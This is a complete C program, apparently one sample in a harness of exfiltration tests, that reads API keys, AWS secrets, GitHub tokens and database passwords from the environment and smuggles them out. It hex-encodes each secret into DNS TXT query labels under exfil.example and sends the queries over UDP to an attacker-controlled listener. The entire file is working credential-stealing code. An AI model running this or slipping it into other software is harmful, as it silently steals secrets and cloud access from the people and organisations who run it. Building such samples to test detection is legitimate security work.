/* udp-exfil (C): DNS tunnelling: each NAME=secret hex-encoded into the labels
 * of a TXT query for <hex>.<n>.x.exfil.example, sent to the attacker's
 * "resolver" (the UDP listener). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "targets.h"

static const char *const names[] = {"OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY",
                                    "GITHUB_TOKEN", "DATABASE_PASSWORD"};

/* Appends the label |s| (at most 63 bytes) to |q|. */
static size_t label(unsigned char *q, size_t n, const char *s, size_t len)
{
	q[n++] = (unsigned char)len;
	memcpy(q + n, s, len);
	return n + len;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	int fd;

	targets_load(argc, argv);
	sa.sin_port = htons((unsigned short)atoi(target("T_UDP_PORT")));
	inet_pton(AF_INET, target("T_TCP_HOST"), &sa.sin_addr);
	if ((fd = socket(AF_INET, SOCK_DGRAM, 0)) < 0) {
		perror("socket");
		return 1;
	}
	for (int k = 0; k < 4; k++) {
		const char *v = getenv(names[k]);
		char text[300], hex[600], seq[8];
		size_t h = 0;

		snprintf(text, sizeof(text), "%s=%s", names[k], v ? v : "");
		for (const char *c = text; *c; c++, h += 2)
			snprintf(hex + h, 3, "%02x", (unsigned char)*c);
		snprintf(seq, sizeof(seq), "%d", k);
		for (size_t i = 0; i < h; i += 60) {
			unsigned char q[512] = {0x13, 0x37, 0x01, 0x00, 0, 1,
			                        0,    0,    0,    0,    0, 0};
			size_t n = 12;

			n = label(q, n, hex + i, h - i < 60 ? h - i : 60);
			n = label(q, n, seq, strlen(seq));
			n = label(q, n, "x", 1);
			n = label(q, n, "exfil", 5);
			n = label(q, n, "example", 7);
			memcpy(q + n, "\0\0\x10\0\x01", 5); /* root, TXT, IN */
			n += 5;
			if (sendto(fd, q, n, 0, (struct sockaddr *)&sa,
			           sizeof(sa)) < 0)
				perror("sendto");
		}
	}
	close(fd);
	return 0;
}
